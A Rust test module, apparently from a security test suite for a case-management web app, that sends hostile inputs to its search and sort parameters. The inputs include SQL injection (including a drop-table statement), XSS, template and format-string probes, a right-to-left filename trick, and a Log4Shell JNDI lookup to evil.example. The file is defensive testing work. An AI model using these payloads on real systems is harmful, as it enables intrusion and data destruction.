//! SQL, HTML, templates and directions of writing in what is searched and sorted. What is typed into the forms stands in
//! `input.rs`.

use super::*;

const FRAGMENTS: [&str; 8] = [
    "' or '1'='1",
    "'; drop table case_view; --",
    "<script>alert(1)</script>",
    "\"><img src=x onerror=alert(1)>",
    "{{7*7}}",
    "${jndi:ldap://evil.example/a}",
    "%s%n%x",
    "\u{202e}gpj.exe",
];

pub fn rows(_: &Target) -> Vec<Row> {
    let mut rows = Vec::new();
    for text in FRAGMENTS {
        let query: String = form_urlencoded::byte_serialize(text.as_bytes()).collect();
        for (place, says) in [("q", "没有"), ("q", "案件")] {
            let url = format!("/cases?{place}={query}&deep=1");
            rows.push(row(format!("searches for {text:?}"), "局长", get(url), 200, says));
        }
    }
    for (query, status) in [
        ("order=number;drop", 200),
        ("order=(select%201)", 200),
        ("at=%27%20or%201=1", 200),
        ("state=%27%20union%20select%201", 200),
        ("due_from.year=9999&due_from.month=99", 200),
        ("bureau=1%27", 200),
        ("page=-1&limit=99999999", 200),
    ] {
        rows.push(row(
            format!("a list by {query}"),
            "局长",
            get(format!("/cases?{query}")),
            status,
            "",
        ));
    }
    rows
}
